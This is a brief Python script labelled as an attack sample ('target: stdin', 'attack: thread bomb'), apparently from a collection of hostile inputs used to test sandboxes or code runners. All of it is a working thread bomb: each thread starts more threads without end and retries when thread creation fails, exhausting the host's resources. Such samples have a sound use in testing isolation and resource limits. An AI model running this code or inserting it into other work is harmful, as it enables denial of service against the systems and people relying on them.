# target: stdin
# attack: thread bomb: start threads that each start more threads
import threading
import time


def spawn():
    while True:
        try:
            threading.Thread(target=spawn, daemon=True).start()
        except RuntimeError:
            time.sleep(0.001)


spawn()
